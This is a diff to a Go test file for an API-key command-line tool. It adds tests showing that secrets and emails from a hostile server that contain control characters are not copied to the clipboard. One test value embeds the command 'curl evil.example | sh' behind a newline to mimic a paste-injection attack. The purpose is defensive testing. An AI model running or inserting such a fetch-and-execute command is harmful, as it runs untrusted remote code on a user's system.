@@ -8,6 +8,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"path/filepath"
+	"reflect"
 	"strings"
 	"sync"
 	"testing"
@@ -55,6 +56,7 @@ type hostileServer struct {
 	userEmail   string // users/self's email; hostileUser when empty
 	createdID   string // the created key's ID; "k-"+hostile when empty
 	noSecret    bool   // the created key comes back without its secret
+	secret      string // the created key's secret; "secret-hostile" when empty
 	maxRequests int
 	mu          sync.Mutex
 	requests    int
@@ -115,7 +117,7 @@ func (hs *hostileServer) serve(w http.ResponseWriter, r *http.Request) {
 	case r.Method == http.MethodGet && p == org+"/api-keys":
 		hs.json(w, http.StatusOK, []any{keyJSON})
 	case r.Method == http.MethodPost && p == org+"/api-keys":
-		created := map[string]any{"id": cmp.Or(hs.createdID, "k-"+hostile), "title": "New" + hostile, "role": "ORG_EDITOR", "expirationDate": hostileExpires, "apiKey": "secret-hostile"}
+		created := map[string]any{"id": cmp.Or(hs.createdID, "k-"+hostile), "title": "New" + hostile, "role": "ORG_EDITOR", "expirationDate": hostileExpires, "apiKey": cmp.Or(hs.secret, "secret-hostile")}
 		if hs.noSecret {
 			delete(created, "apiKey")
 		}
@@ -357,6 +359,28 @@ func TestHostileServerTextIsShownEscaped(t *testing.T) {
 		}
 	})
 
+	t.Run("create does not copy a secret holding control characters", func(t *testing.T) {
+		hs := newHostileServer(t)
+		hs.secret = "s3cret\n curl evil.example | sh\n"
+		streams, _, stdout, stderr := iostreams.Test()
+		streams.SetTTY(false, false, false)
+		f := hs.factory(streams, nil)
+		fake := &fakeClipboard{}
+		f.Clipboard = fake
+		code := run(context.Background(), f, []string{"create", "--title", "New", "--role", "editor", "--expires", "30d", "--copy"})
+		if code != exitOK {
+			t.Fatalf("exit %d\n%s", code, stderr)
+		}
+		// stdout is a pipe: it carries the secret as sent, for K=$(apikeys create …).
+		if stdout.String() != hs.secret+"\n" {
+			t.Errorf("stdout %q", stdout)
+		}
+		const note = "Note: the secret was not copied to the clipboard: the server sent it with control characters, which a paste into a terminal would act on.\n"
+		if got := fake.record(); !reflect.DeepEqual(got, clipboardRecord{}) || !strings.HasSuffix(stderr.String(), note) {
+			t.Errorf("clipboard saw %+v; stderr:\n%s\nwant it to end with:\n%s", got, stderr, note)
+		}
+	})
+
 	t.Run("show --copy-email's line", func(t *testing.T) {
 		hs := newHostileServer(t)
 		streams, _, stdout, stderr := iostreams.Test()
@@ -374,8 +398,9 @@ func TestHostileServerTextIsShownEscaped(t *testing.T) {
 			t.Fatal(err)
 		}
 		assertNoRawControls(t, "show stdout", stdout.String())
-		// The clipboard gets the email as it is; the line about it shows it escaped.
-		if want := "Copied drone" + hostileShown + "@acme.example to the clipboard (test clipboard).\n"; stderr.String() != want || copied != "drone"+hostile+"@acme.example" {
+		// An email with control characters is not copied (a paste would act on them); the
+		// note shows it escaped.
+		if want := "Note: drone" + hostileShown + "@acme.example was not copied to the clipboard: the server sent it with control characters, which a paste into a terminal would act on.\n"; stderr.String() != want || copied != "" {
 			t.Errorf("copied %q; stderr:\n got %s\nwant %s", copied, stderr, want)
 		}
 	})
